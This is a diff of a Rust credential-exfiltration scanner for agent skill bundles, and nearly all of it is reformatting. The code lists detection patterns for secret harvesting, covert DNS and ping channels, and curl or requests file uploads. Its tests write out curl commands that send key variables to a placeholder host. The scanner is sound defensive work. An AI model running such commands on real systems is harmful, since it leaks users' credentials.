@@ -29,11 +29,12 @@ fn bulk_file_tag(tag: &str) -> bool {
 /// Whether a source is credentials in bulk (not one named key).
 pub fn is_bulk(b: &Bundle<'_>, fact: &Fact) -> bool {
     match fact.kind {
-        FactKind::EnvDump | FactKind::EnvCopy | FactKind::SecretHarvest | FactKind::SecretCommand => {
-            true
-        }
+        FactKind::EnvDump
+        | FactKind::EnvCopy
+        | FactKind::SecretHarvest
+        | FactKind::SecretCommand => true,
         FactKind::SecretFile => b.tag(fact) != "dotenv",
-        _ => false
+        _ => false,
     }
 }
 
@@ -66,17 +67,31 @@ fn in_header(text: &str, names: &[&str]) -> bool {
             };
             let before = text[window_start..i].to_ascii_lowercase();
             let marker = [
-                "-h ", "-h\"", "-h'", "--header", "header", "authorization", "bearer", "api-key", "apikey:",
-                "x-", "token ", "auth=(", "-headers", "private-token",
+                "-h ",
+                "-h\"",
+                "-h'",
+                "--header",
+                "header",
+                "authorization",
+                "bearer",
+                "api-key",
+                "apikey:",
+                "x-",
+                "token ",
+                "auth=(",
+                "-headers",
+                "private-token",
             ]
             .iter()
             .filter_map(|m| before.rfind(m).map(|p| p + m.len()))
             .max();
             let Some(m) = marker else { return false };
             let after_marker = &before[m..];
-            if ["?", "&", " -d", "--data", "data=", "json=", "params=", "body", "-f ", "--form"]
-                .iter()
-                .any(|x| after_marker.contains(x))
+            if [
+                "?", "&", " -d", "--data", "data=", "json=", "params=", "body", "-f ", "--form",
+            ]
+            .iter()
+            .any(|x| after_marker.contains(x))
             {
                 return false;
             }
@@ -88,15 +103,24 @@ fn in_header(text: &str, names: &[&str]) -> bool {
 
 /// The destination of a request fact: the first host of its statement (resolved through names if
 /// needed), else the most suspicious URL of the file.
-fn destination(b: &Bundle<'_>, file: &File<'_>, flow: &FileFlow, sink: usize) -> (Option<Host>, Option<String>) {
+fn destination(
+    b: &Bundle<'_>,
+    file: &File<'_>,
+    flow: &FileFlow,
+    sink: usize,
+) -> (Option<Host>, Option<String>) {
     if let Some((hosts, by)) = flow.hosts.get(&sink)
         && let Some(h) = hosts.first()
     {
-        let how = by.as_ref().map(|(name, line)| format!("`{name}` (defined on line {line})"));
+        let how = by
+            .as_ref()
+            .map(|(name, line)| format!("`{name}` (defined on line {line})"));
         return (Some(h.clone()), how);
     }
     if let Some(fact) = file.facts.facts.get(sink)
-        && let Some(h) = hosts_in(&super::At { file, fact }.text()).into_iter().next()
+        && let Some(h) = hosts_in(&super::At { file, fact }.text())
+            .into_iter()
+            .next()
     {
         return (Some(h), None);
     }
@@ -120,7 +144,14 @@ struct Verdict {
 }
 
 /// Judge one source reaching one destination.
-fn decide(b: &Bundle<'_>, src: &At<'_>, sink: &At<'_>, dest: Option<&Host>, sink_text: &str, via: &[String]) -> Option<Verdict> {
+fn decide(
+    b: &Bundle<'_>,
+    src: &At<'_>,
+    sink: &At<'_>,
+    dest: Option<&Host>,
+    sink_text: &str,
+    via: &[String],
+) -> Option<Verdict> {
     let channel = b.tag(sink.fact);
     let covert = matches!(channel, "dns" | "icmp");
     let bulk = is_bulk(b, src.fact);
@@ -131,7 +162,11 @@ fn decide(b: &Bundle<'_>, src: &At<'_>, sink: &At<'_>, dest: Option<&Host>, sink
             why: format!(
                 "{} is carried in a {} — a covert channel: data encoded into lookup names or packet padding has no honest use",
                 what(b, src),
-                if channel == "dns" { "DNS lookup" } else { "ping" }
+                if channel == "dns" {
+                    "DNS lookup"
+                } else {
+                    "ping"
+                }
             ),
         });
     }
@@ -141,7 +176,10 @@ fn decide(b: &Bundle<'_>, src: &At<'_>, sink: &At<'_>, dest: Option<&Host>, sink
             return Some(Verdict {
                 severity: Severity::High,
                 rule: "exfiltration.secret-to-network",
-                why: format!("{} reaches a request whose destination the file does not show", what(b, src)),
+                why: format!(
+                    "{} reaches a request whose destination the file does not show",
+                    what(b, src)
+                ),
             });
         }
         None => return None,
@@ -203,9 +241,15 @@ fn decide(b: &Bundle<'_>, src: &At<'_>, sink: &At<'_>, dest: Option<&Host>, sink
             return None;
         }
         return Some(Verdict {
-            severity: if dest.class.is_suspicious() { Severity::Critical } else { Severity::High },
+            severity: if dest.class.is_suspicious() {
+                Severity::Critical
+            } else {
+                Severity::High
+            },
             rule: "exfiltration.secret-to-network",
-            why: format!("the names of all environment variables (a fingerprint of the machine and its services) are sent to {to}"),
+            why: format!(
+                "the names of all environment variables (a fingerprint of the machine and its services) are sent to {to}"
+            ),
         });
     }
     Some(Verdict {
@@ -224,26 +268,40 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
         sinks.dedup();
         let mut connected_sources: Vec<usize> = Vec::new();
         for s in sinks {
-            let sink = At { file, fact: &facts[s] };
+            let sink = At {
+                file,
+                fact: &facts[s],
+            };
             let sink_text = sink.text().into_owned();
             let (dest, how) = destination(b, file, flow, s);
             let mut best: Option<(Verdict, usize, Vec<(u32, String)>)> = None;
             let mut related = Vec::new();
             for f in flow.secret_flows.iter().filter(|f| f.sink == s) {
-                let src = At { file, fact: &facts[f.source] };
+                let src = At {
+                    file,
+                    fact: &facts[f.source],
+                };
                 let via: Vec<String> = f.via.iter().map(|(_, n)| n.clone()).collect();
                 connected_sources.push(f.source);
                 if let Some(v) = decide(b, &src, &sink, dest.as_ref(), &sink_text, &via) {
                     if facts[f.source].line != sink.fact.line {
                         related.push(src.related("source"));
                     }
-                    if best.as_ref().is_none_or(|(bv, _, _)| v.severity > bv.severity) {
+                    if best
+                        .as_ref()
+                        .is_none_or(|(bv, _, _)| v.severity > bv.severity)
+                    {
                         best = Some((v, f.source, f.via.clone()));
                     }
                 }
             }
-            let Some((v, source, via)) = best else { continue };
-            let src = At { file, fact: &facts[source] };
+            let Some((v, source, via)) = best else {
+                continue;
+            };
+            let src = At {
+                file,
+                fact: &facts[source],
+            };
             let mut why = format!(
                 "{} (read at {}, sent at {})",
                 capitalize(&v.why),
@@ -251,7 +309,10 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
                 sink.place()
             );
             if !via.is_empty() {
-                let names: Vec<String> = via.iter().map(|(l, n)| format!("`{n}` (line {l})")).collect();
+                let names: Vec<String> = via
+                    .iter()
+                    .map(|(l, n)| format!("`{n}` (line {l})"))
+                    .collect();
                 let _ = write!(why, "; the value travels through {}", names.join(", "));
             }
             if let Some(how) = how {
@@ -263,7 +324,14 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
                 ". Review where this data goes before installing."
             });
             related.dedup();
-            out.push(finding(v.rule, "exfiltration", v.severity, sink, why, related));
+            out.push(finding(
+                v.rule,
+                "exfiltration",
+                v.severity,
+                sink,
+                why,
+                related,
+            ));
         }
         // Credentials in bulk read, and data sent to a suspicious place, with no flow followed.
         let bulk: Vec<At<'_>> = facts
@@ -277,7 +345,10 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
             })
             .map(|fact| At { file, fact })
             .collect();
-        if bulk.is_empty() || !flow.secret_flows.is_empty() && bulk.iter().all(|a| a.fact.kind == FactKind::EnvDump) {
+        if bulk.is_empty()
+            || !flow.secret_flows.is_empty()
+                && bulk.iter().all(|a| a.fact.kind == FactKind::EnvDump)
+        {
             continue;
         }
         let mut best: Option<(At<'_>, Host, Option<String>)> = None;
@@ -290,7 +361,9 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
                 best = Some((s, d, how));
             }
         }
-        let Some((sink, dest, how)) = best else { continue };
+        let Some((sink, dest, how)) = best else {
+            continue;
+        };
         let only_dump = bulk.iter().all(|a| a.fact.kind == FactKind::EnvDump);
         let severity = if dest.class.is_suspicious() {
             Severity::Critical
@@ -317,7 +390,14 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
             ". The judge could not follow the value from one to the other; check what the request carries before installing."
         });
         let related = bulk.iter().take(4).map(|a| a.related("source")).collect();
-        out.push(finding("exfiltration.read-and-send", "exfiltration", severity, sink, why, related));
+        out.push(finding(
+            "exfiltration.read-and-send",
+            "exfiltration",
+            severity,
+            sink,
+            why,
+            related,
+        ));
     }
     staged(b, flows, out);
     bundle_wide(b, flows, out);
@@ -327,15 +407,28 @@ pub fn judge(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
 /// Files uploaded (`curl -F x=@file`, `-T file`, `--data-binary @file`, `files={…}`) to a raw IP,
 /// a collector, a paste site or a tunnel: whatever the file is, it leaves for a place no vendor runs.
 fn uploads(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
-    if out.iter().any(|f| f.category == "exfiltration" && f.severity == Severity::Critical) {
+    if out
+        .iter()
+        .any(|f| f.category == "exfiltration" && f.severity == Severity::Critical)
+    {
         return;
     }
     for (file, flow) in b.files.iter().zip(flows) {
         for sink in b.in_file(file, FactKind::NetSend).filter(|s| !s.fact.prose) {
             let text = sink.text();
-            let upload = ["=@", " -T ", "--upload-file", "--data-binary @", "--data @", "-d @", "files=", "-InFile", "UploadFile("]
-                .iter()
-                .any(|m| text.contains(m));
+            let upload = [
+                "=@",
+                " -T ",
+                "--upload-file",
+                "--data-binary @",
+                "--data @",
+                "-d @",
+                "files=",
+                "-InFile",
+                "UploadFile(",
+            ]
+            .iter()
+            .any(|m| text.contains(m));
             if !upload {
                 continue;
             }
@@ -349,7 +442,14 @@ fn uploads(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
                     d.class.phrase(),
                     sink.place()
                 );
-                out.push(finding("exfiltration.upload-to-suspicious-host", "exfiltration", Severity::Critical, sink, why, Vec::new()));
+                out.push(finding(
+                    "exfiltration.upload-to-suspicious-host",
+                    "exfiltration",
+                    Severity::Critical,
+                    sink,
+                    why,
+                    Vec::new(),
+                ));
                 return;
             }
         }
@@ -357,7 +457,10 @@ fn uploads(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
 }
 
 fn index_of(facts: &[Fact], f: &Fact) -> usize {
-    facts.iter().position(|x| std::ptr::eq(x, f)).unwrap_or(usize::MAX)
+    facts
+        .iter()
+        .position(|x| std::ptr::eq(x, f))
+        .unwrap_or(usize::MAX)
 }
 
 fn capitalize(s: &str) -> String {
@@ -384,13 +487,18 @@ fn staged(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
                     if !names_key(&text, &w.key) {
                         continue;
                     }
-                    let src = At { file: wfile, fact: &wfile.facts.facts[w.origin] };
+                    let src = At {
+                        file: wfile,
+                        fact: &wfile.facts.facts[w.origin],
+                    };
                     let idx = index_of(&file.facts.facts, sink.fact);
                     let (dest, _) = destination(b, file, &flows[i], idx);
                     if dest.as_ref().is_some_and(|d| d.class == HostClass::Local) {
                         continue;
                     }
-                    let to = dest.map_or("a remote host".to_owned(), |d| format!("{} ({})", d.host, d.class.phrase()));
+                    let to = dest.map_or("a remote host".to_owned(), |d| {
+                        format!("{} ({})", d.host, d.class.phrase())
+                    });
                     let why = format!(
                         "{} (read at {}) is written to `{}` at {}:{}, and {} uploads `{}` to {to}. Splitting the read and the upload across scripts does not change what it does: do not install this skill.",
                         capitalize(&what(b, &src)),
@@ -419,22 +527,28 @@ fn staged(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
 /// Credentials in bulk read (or, in prose, the agent told to read them) in one place, and data sent
 /// to a suspicious host in another.
 fn bundle_wide(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
-    if out.iter().any(|f| f.category == "exfiltration" && f.severity == Severity::Critical) {
+    if out
+        .iter()
+        .any(|f| f.category == "exfiltration" && f.severity == Severity::Critical)
+    {
         return;
     }
     let sources: Vec<At<'_>> = b
         .files
         .iter()
         .flat_map(|file| {
-            file.facts.facts.iter().filter(|f| {
-                (!f.prose || f.kind == FactKind::SecretFile)
-                    && match f.kind {
-                        FactKind::SecretHarvest | FactKind::SecretCommand => true,
-                        FactKind::SecretFile => bulk_file_tag(b.tag(f)),
-                        _ => false,
-                    }
-            })
-            .map(move |fact| At { file, fact })
+            file.facts
+                .facts
+                .iter()
+                .filter(|f| {
+                    (!f.prose || f.kind == FactKind::SecretFile)
+                        && match f.kind {
+                            FactKind::SecretHarvest | FactKind::SecretCommand => true,
+                            FactKind::SecretFile => bulk_file_tag(b.tag(f)),
+                            _ => false,
+                        }
+                })
+                .map(move |fact| At { file, fact })
         })
         .collect();
     if sources.is_empty() {
@@ -444,7 +558,9 @@ fn bundle_wide(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
         for sink in b.in_file(file, FactKind::NetSend) {
             let idx = index_of(&file.facts.facts, sink.fact);
             let (dest, _) = destination(b, file, flow, idx);
-            let Some(d) = dest.filter(|d| d.class.is_suspicious()) else { continue };
+            let Some(d) = dest.filter(|d| d.class.is_suspicious()) else {
+                continue;
+            };
             let Some(src) = sources
                 .iter()
                 .find(|s| !(std::ptr::eq(s.file, file) && s.fact.line == sink.fact.line))
@@ -454,14 +570,25 @@ fn bundle_wide(b: &Bundle<'_>, flows: &[FileFlow], out: &mut Vec<Finding>) {
             let why = format!(
                 "{} {} {} (at {}), and {} sends data to {} ({}). Together they are the shape of a stealer, even where no single line shows the flow: do not install this skill.",
                 src.file.path,
-                if src.fact.prose { "tells the agent to read" } else { "reads" },
+                if src.fact.prose {
+                    "tells the agent to read"
+                } else {
+                    "reads"
+                },
                 what(b, src),
                 src.place(),
                 sink.place(),
                 d.host,
                 d.class.phrase()
             );
-            out.push(finding("exfiltration.read-and-send", "exfiltration", Severity::Critical, sink, why, vec![src.related("source")]));
+            out.push(finding(
+                "exfiltration.read-and-send",
+                "exfiltration",
+                Severity::Critical,
+                sink,
+                why,
+                vec![src.related("source")],
+            ));
             return;
         }
     }
@@ -473,10 +600,25 @@ mod tests {
 
     #[test]
     fn headers_hold_keys_bodies_do_not() {
-        assert!(in_header(r#"curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com"#, &["ANTHROPIC_API_KEY"]));
-        assert!(in_header(r#"requests.get(u, headers={"Authorization": f"Bearer {tok}"})"#, &["tok"]));
-        assert!(!in_header(r#"curl -d "k=$KEY" https://x.example"#, &["KEY"]));
-        assert!(!in_header(r#"curl "https://x.example/?key=$KEY""#, &["KEY"]));
-        assert!(!in_header(r#"curl -H "X-A: 1" -d "t=$T" https://x"#, &["T"]));
+        assert!(in_header(
+            r#"curl -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com"#,
+            &["ANTHROPIC_API_KEY"]
+        ));
+        assert!(in_header(
+            r#"requests.get(u, headers={"Authorization": f"Bearer {tok}"})"#,
+            &["tok"]
+        ));
+        assert!(!in_header(
+            r#"curl -d "k=$KEY" https://x.example"#,
+            &["KEY"]
+        ));
+        assert!(!in_header(
+            r#"curl "https://x.example/?key=$KEY""#,
+            &["KEY"]
+        ));
+        assert!(!in_header(
+            r#"curl -H "X-A: 1" -d "t=$T" https://x"#,
+            &["T"]
+        ));
     }
 }
